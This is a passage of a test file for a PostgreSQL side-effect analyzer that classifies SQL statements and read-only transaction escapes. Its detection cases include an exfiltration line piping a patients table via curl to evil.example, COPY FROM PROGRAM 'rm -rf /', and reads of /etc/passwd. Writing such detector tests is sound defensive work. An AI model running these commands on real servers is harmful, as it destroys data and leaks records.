import { beforeAll, describe, expect, it } from 'vitest';
import { describeEffects, effectKey, type Effect } from '../../src/vocabulary/effects.js';
import { analyzeSql, loadSqlParser } from '../../src/analysis/sql.js';
import { generateMigration } from '../fixtures/sql-migration.js';

// Each effect in one line: `verb:object name [detail]`.
const line = (effect: Effect) =>
  `${effectKey(effect)}${effect.name ? ` ${effect.name}` : ''}${effect.detail ? ` [${effect.detail}]` : ''}`;
const lines = (sql: string, options?: { readOnly?: boolean }) => analyzeSql(sql, options).map(line);

const RUNS = 'not known to be free of side effects';
const LATER = 'runs later, not known to be free of side effects';
const DYNAMIC = 'dynamic SQL: EXECUTE of a string computed when it runs, its effect is not known';

beforeAll(async () => {
  await loadSqlParser();
});

/** SQL → the effects it must produce, in order. */
const CASES: Array<[sql: string, effects: string[]]> = [
  // ---- DROP, whatever the spelling ----
  ['DROP table "public"."patients";', ['drop:table public.patients']], // the console's exact body
  ['drop /* x */ TABLE\n  public . patients  cascade', ['drop:table public.patients [CASCADE]']],
  ['DrOp TaBlE patients', ['drop:table patients']],
  ['-- drop nothing\nDROP TABLE a, public.b RESTRICT', ['drop:table a', 'drop:table public.b']],
  ['DROP TABLE IF EXISTS public."Order Items"', ['drop:table public.Order Items']], // quoted case kept, quotes not
  ['DROP VIEW public.v', ['drop:view public.v']],
  ['DROP MATERIALIZED VIEW mv CASCADE', ['drop:materialized_view mv [CASCADE]']],
  ['DROP INDEX CONCURRENTLY public.idx', ['drop:index public.idx']],
  ['DROP SEQUENCE s', ['drop:sequence s']],
  ['DROP FUNCTION public.f(int), g', ['drop:function public.f', 'drop:function g']],
  ['DROP PROCEDURE p()', ['drop:function p']],
  ['DROP TRIGGER audit ON public.patients', ['drop:trigger audit on public.patients']],
  ['DROP TYPE mood', ['drop:type mood']],
  ['DROP DOMAIN email', ['drop:type email']],
  ['DROP EXTENSION dblink', ['drop:extension dblink']],
  ['DROP SCHEMA public CASCADE', ['drop:schema public [CASCADE]']],
  ['DROP DATABASE production', ['drop:database production']],
  ['DROP POLICY own_rows ON patients', ['drop:policy own_rows on patients']],
  ['DROP RULE r ON t', ['drop:unknown r on t [rule]']], // no word for rules in the effect model: unknown + kind
  ['DROP CAST (int AS text)', ['drop:unknown int4 AS text [cast]']],
  ['DROP ROLE app, "Reader"', ['drop:role app', 'drop:role Reader']],
  ['DROP USER bob', ['drop:role bob']],
  ['drop owned by app', ['drop:owned app']],
  ['DROP OWNED BY app, bob CASCADE', ['drop:owned app, bob [CASCADE]']],
  ['REASSIGN OWNED BY app TO postgres', ['modify:owned app [to postgres]']],
  ['DROP SUBSCRIPTION sub', ['drop:unknown [subscription]']],

  // ---- ALTER TABLE ----
  ['ALTER TABLE public.patients DROP COLUMN ssn', ['drop:column public.patients.ssn']],
  ['ALTER TABLE patients DROP COLUMN IF EXISTS ssn CASCADE', ['drop:column patients.ssn [CASCADE]']],
  ['ALTER TABLE public.t DROP CONSTRAINT t_fkey', ['drop:constraint t_fkey on public.t']],
  ['ALTER TABLE t ALTER COLUMN age TYPE bigint', ['rewrite:column t.age [type int8]']],
  ['ALTER TABLE t ALTER COLUMN note TYPE varchar(10) USING left(note, 10)', ['rewrite:column t.note [type varchar]']],
  ['ALTER TABLE t RENAME TO u', ['rename:table t [to u]']],
  ['ALTER TABLE public.t RENAME COLUMN a TO b', ['rename:column public.t.a [to b]']],
  ['ALTER TABLE t RENAME CONSTRAINT c1 TO c2', ['rename:constraint c1 on t [to c2]']],
  ['ALTER TABLE t ADD COLUMN email text', ['add:column t.email']],
  ['ALTER TABLE t ADD COLUMN IF NOT EXISTS n int NOT NULL DEFAULT 0', ['add:column t.n']],
  // A volatile default runs for every existing row now: the function counts.
  ['ALTER TABLE t ADD COLUMN token text DEFAULT make_token()', ['add:column t.token', `run:function make_token [${RUNS}]`]],
  ['ALTER TABLE t ADD CONSTRAINT t_pos CHECK (n > 0)', ['add:constraint t_pos on t']],
  ['ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES u (id)', ['add:constraint foreign on t']], // unnamed: its kind
  ['ALTER TABLE t ALTER COLUMN a SET NOT NULL', ['modify:column t.a [set not null]']],
  ['ALTER TABLE t ALTER COLUMN a DROP NOT NULL', ['modify:column t.a [drop not null]']],
  ['ALTER TABLE t ALTER COLUMN a SET DEFAULT 1', ['modify:column t.a [column default]']],
  ['ALTER TABLE t ENABLE ROW LEVEL SECURITY', ['modify:table t [enable row security]']],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['modify:table t [disable row security]']],
  ['ALTER TABLE t DISABLE TRIGGER audit', ['modify:table t [disable trig, audit]']],
  ['ALTER TABLE t OWNER TO mallory', ['modify:table t [owner to mallory]']],
  ['ALTER TABLE t SET TABLESPACE slow', ['modify:table t [set table space, slow]']],
  ['ALTER TABLE t DROP COLUMN a, ADD COLUMN b int', ['drop:column t.a', 'add:column t.b']],
  ['ALTER TABLE t VALIDATE CONSTRAINT c', ['modify:constraint c on t [validate constraint]']],
  ['ALTER TABLE t SET SCHEMA archive', ['modify:table t [set schema archive]']],
  ['ALTER VIEW v RENAME TO w', ['rename:view v [to w]']],
  ['ALTER INDEX i RENAME TO j', ['rename:index i [to j]']],
  ['ALTER SCHEMA s RENAME TO r', ['rename:schema s [to r]']],
  ['ALTER FUNCTION f(int) RENAME TO g', ['rename:function f [to g]']],
  ['ALTER FUNCTION f(int) SECURITY DEFINER', ['modify:function f']],
  ['ALTER SEQUENCE s RESTART WITH 1', ['modify:sequence s']],
  ['ALTER TYPE mood ADD VALUE \'meh\'', ['modify:type mood [value meh]']],
  ['ALTER DOMAIN email DROP CONSTRAINT email_check', ['drop:constraint email_check on email']],
  ['ALTER EXTENSION postgis UPDATE', ['modify:extension postgis']],
  ['ALTER FUNCTION f() OWNER TO bob', ['modify:function f [owner to bob]']],
  ['ALTER ROLE app SUPERUSER', ['grant:role app [SUPERUSER]']], // widens what the role may do
  ['ALTER ROLE app NOLOGIN', ['modify:role app [NOLOGIN]']],
  ['ALTER ROLE app PASSWORD \'hunter2\'', ['modify:role app [PASSWORD]']], // the option, never its value
  ['ALTER DATABASE prod SET work_mem = \'1GB\'', ['modify:database prod [setting work_mem]']],
  ['ALTER POLICY p ON t USING (true)', ['grant:policy p on t [changed]']], // may open rows as a new policy does

  // ---- rows ----
  ['TRUNCATE patients', ['delete:all_rows patients [every row]']],
  ['TRUNCATE TABLE a, public.b RESTART IDENTITY CASCADE', ['delete:all_rows a [every row, CASCADE, RESTART IDENTITY]', 'delete:all_rows public.b [every row, CASCADE, RESTART IDENTITY]']],
  ['DELETE FROM patients', ['delete:all_rows patients [every row]']],
  ['DELETE FROM public.patients WHERE id = 1', ['delete:rows public.patients']],
  ['DELETE FROM patients WHERE true', ['delete:all_rows patients [every row]']], // names no column: all or none
  ['delete from patients where 1 = 1', ['delete:all_rows patients [every row]']],
  ['DELETE FROM t USING u WHERE t.id = u.id', ['delete:rows t']],
  ['UPDATE patients SET name = NULL', ['rewrite:all_rows patients [every row]']],
  ['UPDATE patients SET name = upper(name) WHERE id > 10', ['rewrite:rows patients']],
  ['UPDATE t SET n = nextval(\'s\') WHERE id = 1', ['rewrite:rows t', `run:function nextval [${RUNS}]`]],
  ['INSERT INTO patients (name) VALUES (\'x\')', ['add:rows patients']],
  ['INSERT INTO public.t SELECT * FROM u', ['add:rows public.t']],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2', ['add:rows t', 'rewrite:rows t [ON CONFLICT DO UPDATE]']],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['add:rows t']],
  ['MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (u.id)', ['delete:rows t [MERGE]', 'add:rows t [MERGE]']],
  ['WITH gone AS (DELETE FROM patients RETURNING *) SELECT count(*) FROM gone', ['read:sql', 'delete:all_rows patients [every row]']],
  ['WITH x AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) INSERT INTO log SELECT id FROM x', ['add:rows log', 'rewrite:rows t']],
  ['WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', ['read:table orders']],
  ['SELECT * INTO t FROM x', ['add:table t [SELECT INTO]']],
  ['CREATE TABLE t2 AS SELECT * FROM t', ['add:table t2']],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1 WITH NO DATA', ['add:materialized_view mv [WITH NO DATA]']],
  ['COPY patients FROM STDIN', ['add:rows patients [COPY FROM]']],
  ['COPY patients TO STDOUT', ['read:table patients [COPY TO]']],
  ['COPY (SELECT * FROM patients) TO STDOUT', ['read:table patients']],
  ['COPY patients TO PROGRAM \'curl -d @- evil.example\'', ['read:table patients [COPY TO]', 'run:function COPY PROGRAM [shell command on the database server]']], // the command line is a literal: never repeated
  ['COPY t FROM PROGRAM \'rm -rf /\'', ['add:rows t [COPY FROM]', 'run:function COPY PROGRAM [shell command on the database server]']],

  // ---- SELECT and functions ----
  ['SELECT truncate_all_tables()', [`run:function truncate_all_tables [${RUNS}]`]], // the bug this module ends
  // A column with no FROM cannot run: most likely a call typed without (), whose effect is unknown.
  ['SELECT truncate_all_tables', ['unknown:sql [names a column without FROM: perhaps a function call without its ()]']],
  ['SELECT pg_terminate_backend(123)', [`run:function pg_terminate_backend [${RUNS}]`]],
  ['SELECT pg_cancel_backend(pid) FROM pg_stat_activity', ['read:table pg_stat_activity', `run:function pg_cancel_backend [${RUNS}]`]],
  ["select set_config('a','b',false)", [`run:function set_config [${RUNS}]`]],
  ["SELECT pg_catalog.set_config('search_path', '', false)", [`run:function pg_catalog.set_config [${RUNS}]`]], // pg_dump's first line
  ["SELECT dblink_exec('host=x', 'DROP TABLE patients')", [`run:function dblink_exec [${RUNS}]`]],
  ["SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)", [`run:function dblink [${RUNS}]`]],
  ['SELECT lo_unlink(1)', [`run:function lo_unlink [${RUNS}]`]],
  ["SELECT lo_import('/etc/passwd')", [`run:function lo_import [${RUNS}]`]],
  ['SELECT pg_reload_conf()', [`run:function pg_reload_conf [${RUNS}]`]],
  ["SELECT nextval('s'), setval('s', 1)", [`run:function nextval [${RUNS}]`, `run:function setval [${RUNS}]`]],
  ['SELECT pg_advisory_lock(1)', [`run:function pg_advisory_lock [${RUNS}]`]],
  ['SELECT public.count(*) FROM t', ['read:table t', `run:function public.count [${RUNS}]`]], // another schema: someone's function
  ['SELECT "NOW"()', [`run:function NOW [${RUNS}]`]], // quoted: not the built-in now()
  ['SELECT COUNT(*), Max(id), pg_catalog.now() FROM patients', ['read:table patients']],
  ['SELECT 1', ['read:sql']],
  ['SELECT version()', ['read:sql']],
  ["SELECT current_setting('server_version_num')", ['read:sql']],
  ['SELECT * FROM t WHERE id IN (SELECT evil(id) FROM u)', ['read:table t', 'read:table u', `run:function evil [${RUNS}]`]],
  ['SELECT * FROM t, LATERAL (SELECT side_effect(t.id)) s', ['read:table t', `run:function side_effect [${RUNS}]`]],
  ['SELECT * FROM t ORDER BY f(t.a)', ['read:table t', `run:function f [${RUNS}]`]],
  ['SELECT a FROM t UNION SELECT g(b) FROM u', ['read:table t', 'read:table u', `run:function g [${RUNS}]`]],
  ['SELECT 1 OPERATOR(evil.+) 2', [`run:function OPERATOR(evil.+) [${RUNS}]`]],
  ['SELECT * FROM generate_series(1, 10) g', ['read:sql']],
  ["SELECT to_char(now(), 'YYYY'), date_trunc('day', now()), length(lower('A')), jsonb_build_object('a', 1) -> 'a'", ['read:sql']],
  ['SELECT row_number() OVER (ORDER BY id), string_agg(name, \',\') FROM patients GROUP BY id', ['read:table patients']],
  ['SELECT * FROM patients FOR UPDATE', ['read:table patients [locks rows]']],
  ['TABLE patients', ['read:table patients']],
  ['VALUES (1), (2)', ['read:sql']],
  [
    // A console-style introspection query (read_only run_sql), written here in the shape of the console's own.
    `SELECT COALESCE(json_agg(row_to_json(info)), '[]'::JSON)
     FROM (
       SELECT pgn.nspname AS table_schema, pgc.relname AS table_name,
         obj_description(pgc.oid) AS comment,
         COALESCE(json_agg(DISTINCT row_to_json(isc)::jsonb || jsonb_build_object('comment', col_description(pga.attrelid, pga.attnum)))
           FILTER (WHERE isc.column_name IS NOT NULL), '[]'::json) AS columns,
         CASE WHEN pg_has_role(pgc.relowner, 'USAGE') THEN pg_get_viewdef(pgc.oid) END AS view_definition,
         CASE WHEN pg_relation_is_updatable(pgc.oid, false) & 20 = 20 THEN 'YES' ELSE 'NO' END AS is_updatable
       FROM pg_class pgc
       JOIN pg_namespace pgn ON pgc.relnamespace = pgn.oid
       LEFT JOIN pg_attribute pga ON pga.attrelid = pgc.oid
       LEFT JOIN (
         SELECT c.relname AS table_name, a.attname AS column_name, pg_get_expr(ad.adbin, ad.adrelid) AS column_default,
                format_type(a.atttypid, null) AS data_type
         FROM pg_attribute a LEFT JOIN pg_attrdef ad ON a.attrelid = ad.adrelid AND a.attnum = ad.adnum
         JOIN pg_class c ON a.attrelid = c.oid
         WHERE NOT pg_is_other_temp_schema(c.relnamespace) AND a.attnum > 0
           AND (pg_has_role(c.relowner, 'USAGE') OR has_column_privilege(c.oid, a.attnum, 'SELECT, INSERT, UPDATE, REFERENCES'))
       ) AS isc ON isc.table_name = pgc.relname AND isc.column_name = pga.attname
       WHERE pgc.relkind IN ('r', 'v', 'f', 'm', 'p') AND pgn.nspname = 'public'
       GROUP BY pgc.oid, pgn.nspname, pgc.relname
     ) AS info;`,
    ['read:table pg_class', 'read:table pg_namespace', 'read:table pg_attribute', 'read:table pg_attrdef'],
  ],
  [
    // The console's foreign-key introspection, in the same style.
    `SELECT COALESCE(json_agg(row_to_json(info)), '[]'::JSON) FROM (
       SELECT q.table_schema::text, min(q.ref_table::text) AS ref_table, json_object_agg(ac.attname, afc.attname) AS column_mapping
       FROM (SELECT ctn.nspname AS table_schema, cft.relname AS ref_table, r.conrelid AS table_id, r.confrelid AS ref_table_id,
                    unnest(r.conkey) AS column_id, unnest(r.confkey) AS ref_column_id
             FROM pg_catalog.pg_constraint r JOIN pg_class ct ON r.conrelid = ct.oid
             JOIN pg_namespace ctn ON ct.relnamespace = ctn.oid JOIN pg_class cft ON r.confrelid = cft.oid
             WHERE r.contype = 'f'::"char") q
       JOIN pg_attribute ac ON q.column_id = ac.attnum AND q.table_id = ac.attrelid
       JOIN pg_attribute afc ON q.ref_column_id = afc.attnum AND q.ref_table_id = afc.attrelid
       GROUP BY q.table_schema) AS info`,
    ['read:table pg_catalog.pg_constraint', 'read:table pg_class', 'read:table pg_namespace', 'read:table pg_attribute'],
  ],
  ["SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", ['read:table information_schema.tables']],

  // ---- CREATE, CREATE OR REPLACE ----
  ['CREATE TABLE public.t (id int PRIMARY KEY, token text DEFAULT gen())', ['add:table public.t', `run:function gen [${LATER}]`]], // runs for each new row, in this request perhaps
  ['CREATE TEMP TABLE scratch (a int)', ['add:table scratch [temporary]']],
  ['CREATE VIEW v AS SELECT evil() FROM t', ['add:view v', `run:function evil [${LATER}]`]], // runs when the view is read
  ['CREATE OR REPLACE VIEW v AS SELECT 1', ['replace:view v']],
  ['CREATE INDEX ON public.t (lower(a))', ['add:index unnamed [on public.t]']],
  ['CREATE UNIQUE INDEX t_a ON t (a)', ['add:index t_a [on t]']],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', ['add:function f']],
  ["CREATE OR REPLACE FUNCTION public.f() RETURNS trigger AS $$ BEGIN DELETE FROM patients; RETURN NULL; END $$ LANGUAGE plpgsql", ['replace:function public.f', 'delete:all_rows patients [every row, in function public.f]']],
  ['CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$', ['add:function p [procedure]']],
  ['CREATE SCHEMA archive', ['add:schema archive']],
  ['CREATE SCHEMA s CREATE TABLE s.t (a int)', ['add:schema s', 'add:table s.t']],
  ['CREATE SEQUENCE s', ['add:sequence s']],
  ["CREATE TYPE mood AS ENUM ('ok', 'sad')", ['add:type mood [enum]']],
  ['CREATE TYPE pair AS (a int, b int)', ['add:type pair']],
  ['CREATE DOMAIN email AS text CHECK (VALUE LIKE \'%@%\')', ['add:type email [domain]']],
  ['CREATE TRIGGER audit AFTER DELETE ON patients FOR EACH ROW EXECUTE FUNCTION log_it()', ['add:trigger audit on patients', `run:function log_it [by trigger audit on patients, ${LATER}]`]], // a function this SQL does not create
  ['CREATE OR REPLACE TRIGGER audit AFTER DELETE ON patients FOR EACH ROW EXECUTE FUNCTION log_it()', ['replace:trigger audit on patients', `run:function log_it [by trigger audit on patients, ${LATER}]`]],
  ['CREATE OR REPLACE RULE r AS ON DELETE TO t DO INSTEAD NOTHING', ['replace:unknown r on t [rule]', 'modify:table t [rule r replaces each DELETE]']], // DELETEs on t now do nothing
  ['CREATE EXTENSION IF NOT EXISTS dblink', ['grant:extension dblink [opens connections to other databases and runs SQL there]']],
  ['CREATE EXTENSION plpython3u', ['grant:extension plpython3u [functions in untrusted Python]']],
  ['CREATE EXTENSION IF NOT EXISTS postgis', ['add:extension postgis']],
  ["SELECT EXISTS (SELECT * FROM information_schema.tables WHERE table_schema = 'hdb_catalog' AND table_name = 'event_log')", ['read:table information_schema.tables']],
  ['SELECT (SELECT truncate_all_tables)', ['unknown:sql [names a column without FROM: perhaps a function call without its ()]']],
  ["INSERT INTO places (geom) VALUES (ST_Buffer(ST_GeomFromEWKT('SRID=4326;POINT(1 2)'), 3)), (public.st_setsrid(ST_MakePoint(1, 2), 4326))", ['add:rows places']],
  ["SELECT digest('x', 'sha256'), crypt('pw', gen_salt('bf')), uuid_generate_v4(), similarity('a', 'b')", ['read:sql']],
  ["SELECT setval('patients_id_seq', 1)", [`run:function setval [${RUNS}]`]],
  ["SELECT set_limit(0.5), myschema.st_buffer(g, 1) FROM places", [`read:table places`, `run:function set_limit [${RUNS}]`, `run:function myschema.st_buffer [${RUNS}]`]],
  ['SELECT AddGeometryColumn(\'places\', \'geom\', 4326, \'POINT\', 2)', [`run:function addgeometrycolumn [${RUNS}]`]],
  ['CREATE POLICY own ON patients FOR SELECT TO anonymous USING (owner = current_user)', ['grant:policy own on patients [permissive, for SELECT, to anonymous]']],
  ['CREATE POLICY narrow ON patients AS RESTRICTIVE USING (owner = current_user)', ['revoke:policy narrow on patients [restrictive, for ALL, to PUBLIC]']],
  ['CREATE AGGREGATE mysum (int) (sfunc = int4pl, stype = int)', ['add:function mysum', `run:function int4pl [by function mysum, ${LATER}]`]],
  ['CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()', ['add:unknown et [event trigger]', `run:function f [by event trigger et on every ddl_command_start, ${LATER}]`]],
  ['CREATE DATABASE copy', ['add:database copy']],

  // ---- privileges and roles ----
  ['GRANT SELECT ON patients TO anonymous', ['grant:privilege patients [SELECT to anonymous]']],
  ['GRANT ALL ON TABLE public.a, b TO app WITH GRANT OPTION', ['grant:privilege public.a [ALL to app, WITH GRANT OPTION]', 'grant:privilege b [ALL to app, WITH GRANT OPTION]']],
  ['GRANT UPDATE (name) ON patients TO PUBLIC', ['grant:privilege patients [UPDATE (name) to PUBLIC]']],
  ['REVOKE SELECT ON patients FROM anonymous', ['revoke:privilege patients [SELECT from anonymous]']],
  ['GRANT USAGE ON SCHEMA public TO anonymous', ['grant:privilege public [USAGE on schema to anonymous]']],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO anonymous', ['grant:privilege all tables in schema public [SELECT to anonymous]']],
  ['GRANT EXECUTE ON FUNCTION f(int) TO anonymous', ['grant:privilege f [EXECUTE on function to anonymous]']],
  ['ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO anonymous', ['grant:privilege future tables in schema public [SELECT to anonymous]']],
  ['GRANT admin TO app', ['grant:role admin [to app]']],
  ['REVOKE admin FROM app', ['revoke:role admin [from app]']],
  ["CREATE ROLE app LOGIN PASSWORD 'secret'", ['grant:role app [LOGIN, PASSWORD]']],
  ['CREATE USER bob', ['grant:role bob [LOGIN]']], // CREATE USER logs in by default
  ['CREATE ROLE readers', ['add:role readers']], // a name, no attribute: nothing widens yet
  ['CREATE ROLE boss SUPERUSER LOGIN', ['grant:role boss [SUPERUSER, LOGIN]']],
  ['CREATE ROLE app IN ROLE admin', ['grant:role app [IN ROLE admin]']], // a membership

  // ---- comments, settings, transactions, code ----
  ["COMMENT ON TABLE public.patients IS 'who we treat'", ['comment:table public.patients']],
  ["COMMENT ON COLUMN public.patients.ssn IS 'secret'", ['comment:column public.patients.ssn']],
  ['COMMENT ON FUNCTION f(int) IS NULL', ['comment:function f']],
  ['SET LOCAL statement_timeout = 10000;', ['read:setting statement_timeout [SET LOCAL]']], // the console's; a setting's value is never repeated
  ["SET lock_timeout = '5s'", ['read:setting lock_timeout [SET]']],
  ["SET search_path TO evil, public", ['modify:setting search_path [SET]']], // decides which function a name calls
  ['SET ROLE postgres', ['modify:setting role [SET]']],
  ['RESET ALL', ['modify:setting all [RESET]']],
  ['SHOW server_version', ['read:setting server_version']],
  ['SET CONSTRAINTS ALL DEFERRED', ['read:setting constraints [DEFERRED]']],
  ['BEGIN', []],
  ['BEGIN; SAVEPOINT a; ROLLBACK TO a; COMMIT;', []],
  ['DO $$ BEGIN EXECUTE \'DROP TABLE patients\'; END $$', [`run:function DO block [${RUNS}]`]],
  ['CALL archive_old(30)', [`run:function archive_old [procedure, ${RUNS}]`]],
  ["LOAD 'evil.so'", [`run:function LOAD [shared library, ${RUNS}]`]],
  ['EXPLAIN SELECT * FROM patients', ['read:sql [EXPLAIN]']],
  ['EXPLAIN DELETE FROM patients', ['read:sql [EXPLAIN]']], // planned, not run
  ['EXPLAIN ANALYZE DELETE FROM patients', ['delete:all_rows patients [every row]']],
  ['EXPLAIN (ANALYZE, FORMAT JSON) SELECT evil()', [`run:function evil [${RUNS}]`]],
  ['EXPLAIN (ANALYZE false) DELETE FROM patients', ['read:sql [EXPLAIN]']],
  ['LOCK TABLE patients IN ACCESS EXCLUSIVE MODE', ['modify:table patients [LOCK ACCESS EXCLUSIVE]']], // blocks everyone till the end
  ['VACUUM patients', ['read:table patients [VACUUM]']], // no row or definition changes
  ['VACUUM FULL patients', ['modify:table patients [VACUUM FULL]']], // rewrites under an exclusive lock
  ['ANALYZE', ['read:table [ANALYZE, every table]']],
  ['REFRESH MATERIALIZED VIEW mv', ['modify:materialized_view mv [REFRESH]']],
  ['CLUSTER patients USING patients_pkey', ['modify:table patients [CLUSTER]']],
  ['REINDEX TABLE patients', ['modify:index patients [REINDEX]']],
  ['ALTER SYSTEM SET work_mem = \'1GB\'', ['unknown:sql [AlterSystemStmt]']], // not classified: fail closed
  ['NOTIFY channel', ['unknown:sql [NotifyStmt]']],
  ['PREPARE p AS DELETE FROM patients', ['delete:all_rows patients [every row]']], // what it will do when executed
  ['EXECUTE p', ['unknown:sql [ExecuteStmt]']],

  // ---- SQL that is not a statement ----
  ['', ['unknown:sql [no statement]']],
  ['   \n\t ', ['unknown:sql [no statement]']],
  ['-- only a comment\n/* and another */', ['unknown:sql [no statement]']],
  [';;', ['unknown:sql [no statement]']],
  ['DROP TABEL patients', ['unknown:sql [does not parse: syntax error at or near "TABEL"]']],
  ["SELECT 'unterminated", ['unknown:sql [does not parse: unterminated quoted string at or near a literal]']], // the parser quotes it: not repeated
  ['DELETE FROM patients; DROP', ['unknown:sql [does not parse: syntax error at end of input]']], // one bad statement: the whole body
];

describe('analyzeSql: each statement kind', () => {
  it('has at least 120 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(120);
  });

  it.each(CASES)('%s', (sql, expected) => {
    expect(lines(sql)).toEqual(expected);
  });
});

describe('analyzeSql: statements and positions', () => {
  it('numbers the statements of a multi-statement body, 1-based, after the caller’s `at`', () => {
    const effects = analyzeSql('SET LOCAL statement_timeout = 1; SELECT 1; DROP TABLE a; TRUNCATE b', { at: 'args[1]' });
    expect(effects.map((effect) => `${effect.at}: ${line(effect)}`)).toEqual([
      'args[1], statement 1: read:setting statement_timeout [SET LOCAL]',
      'args[1], statement 2: read:sql',
      'args[1], statement 3: drop:table a',
      'args[1], statement 4: delete:all_rows b [every row]',
    ]);
  });

  it('says `statement N` alone without a caller `at`, and nothing for SQL that does not parse', () => {
    expect(analyzeSql('SELECT 1;\nDROP TABLE a;').map((effect) => effect.at)).toEqual(['statement 1', 'statement 2']);
    expect(analyzeSql('DROP', { at: 'args[0]' })[0]?.at).toBe('args[0]');
  });

  it('reads as a sentence a user can check', () => {
    expect(describeEffects(analyzeSql('DROP table "public"."patients";'))).toBe('drops table public.patients');
    expect(describeEffects(analyzeSql('DELETE FROM patients'))).toBe('deletes every row of patients');
  });

  it('reports a function called twice once per statement', () => {
    expect(lines('SELECT evil(1), evil(2); SELECT evil(3)')).toEqual([`run:function evil [${RUNS}]`, `run:function evil [${RUNS}]`]);
  });

  it('gives every other error its stack back after reading SQL the parser refuses (read without one)', () => {
    const limit = Error.stackTraceLimit;
    expect(lines('DROP TABEL patients')).toEqual(['unknown:sql [does not parse: syntax error at or near "TABEL"]']);
    expect(lines('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DROP TABLE x END $$')[1]).toMatch(/^unknown:function f \[PL\/pgSQL body does not parse: /);
    expect(Error.stackTraceLimit).toBe(limit);
    expect(new Error('after').stack).toContain('sql.test.ts');
  });

  it('fails closed on SQL nested deeper than the parser goes', () => {
    const deep = `SELECT ${'('.repeat(10_000)}1${')'.repeat(10_000)}`;
    expect(lines(deep)).toEqual(['unknown:sql [does not parse: memory exhausted at or near "("]']);
  });
});

describe('analyzeSql: read-only transactions (run_sql with read_only: true)', () => {
  const readOnly = (sql: string) => lines(sql, { readOnly: true });
  const REFUSED = 'read:sql [refused by a read-only transaction]';

  it('turns what PostgreSQL refuses in a read-only transaction into read:sql', () => {
    expect(readOnly('DROP TABLE patients')).toEqual([REFUSED]);
    expect(readOnly('DELETE FROM patients')).toEqual([REFUSED]);
    expect(readOnly('GRANT SELECT ON patients TO anonymous')).toEqual([REFUSED]);
    expect(readOnly('SELECT * INTO t FROM x')).toEqual([REFUSED]);
    expect(readOnly('WITH d AS (DELETE FROM a RETURNING 1) SELECT * FROM d')).toEqual([REFUSED]);
    expect(readOnly('EXPLAIN ANALYZE DELETE FROM patients')).toEqual([REFUSED]);
    expect(readOnly('COPY patients FROM STDIN')).toEqual([REFUSED]);
  });

  it('judges what PostgreSQL lets through a read-only transaction as if read_only were not set', () => {
    // LOCK in any mode (utility.c: COMMAND_OK_IN_READ_ONLY_TXN): ACCESS EXCLUSIVE still makes every reader wait.
    expect(readOnly('LOCK patients')).toEqual(['modify:table patients [LOCK ACCESS EXCLUSIVE]']);
    // COPY FROM into a temporary table is allowed (copy.c), and the name does not say whether it is one.
    expect(readOnly("COPY scratch FROM PROGRAM 'id'")).toContain('run:function COPY PROGRAM [shell command on the database server]');
    expect(readOnly("COPY scratch FROM '/etc/passwd'")).toContain('run:function COPY FROM FILE [reads a file on the database server]');
  });

  it('keeps what it lets through as it is', () => {
    expect(readOnly('SELECT count(*) FROM patients')).toEqual(['read:table patients']);
    expect(readOnly('SET LOCAL statement_timeout = 10000')).toEqual(['read:setting statement_timeout [SET LOCAL]']);
    expect(readOnly('LOCK patients IN ACCESS SHARE MODE')).toEqual(['modify:table patients [LOCK ACCESS SHARE]']);
    expect(readOnly('COPY patients TO STDOUT')).toEqual(['read:table patients [COPY TO]']);
  });

  it('still counts function calls: they work inside a read-only transaction', () => {
    expect(readOnly('SELECT pg_terminate_backend(123)')).toEqual([`run:function pg_terminate_backend [${RUNS}]`]);
    expect(readOnly("SELECT dblink_exec('host=x', 'DROP TABLE patients')")).toEqual([`run:function dblink_exec [${RUNS}]`]);
    expect(readOnly('DO $$ BEGIN PERFORM 1; END $$')).toEqual([`run:function DO block [${RUNS}]`]);
    expect(readOnly('INSERT INTO t SELECT evil()')).toEqual([REFUSED, `run:function evil [${RUNS}]`]);
  });

  it('ignores read_only when the SQL can leave the read-only transaction', () => {
    // COMMIT ends Hasura's read-only transaction: what follows runs in a writable one.
    expect(readOnly('COMMIT; DROP TABLE patients')).toEqual(['drop:table patients']);
    expect(readOnly('ROLLBACK; DELETE FROM patients')).toEqual(['delete:all_rows patients [every row]']);
    // Before the first query, SET TRANSACTION READ WRITE lifts the read-only mode.
    expect(readOnly('SET TRANSACTION READ WRITE; DROP TABLE patients')).toEqual([
      'modify:setting TRANSACTION [SET]',
      'drop:table patients',
    ]);
    expect(readOnly('SET transaction_read_only = off; DROP TABLE patients')).toEqual([
      'modify:setting transaction_read_only [SET]',
      'drop:table patients',
    ]);
  });
});

describe('analyzeSql on a 1 MB migration', () => {
  it('analyses every statement and yields exactly the expected effects', () => {
    const migration = generateMigration(1_000_000);
    expect(migration.sql.length).toBeGreaterThanOrEqual(1_000_000);
    expect(migration.statements).toBeGreaterThan(4_000);

    const effects = analyzeSql(migration.sql);
    const counts: Record<string, number> = {};
    for (const effect of effects) counts[effectKey(effect)] = (counts[effectKey(effect)] ?? 0) + 1;

    expect(counts).toEqual(migration.expected);
    expect(effects.at(-1)?.at).toMatch(/^statement \d+$/);
    expect(new Set(effects.map((effect) => effect.at)).size).toBe(migration.statements);
  });
});

describe("analyzeSql: a function's body is code", () => {
  // The console's "updated_at" column (frontend/libs/console/legacy-ce/src/lib/dataSources/services/postgresql/
  // sqlUtils.ts, dependentSQLGenerator, hasura/graphql-engine at 5a67e3e6), with CREATE FUNCTION where it says
  // CREATE OR REPLACE FUNCTION (that form is tested below).
  const updatedAt = (create: string) => `${create} "public"."set_current_timestamp_updated_at"()
RETURNS TRIGGER AS $$
DECLARE
  _new record;
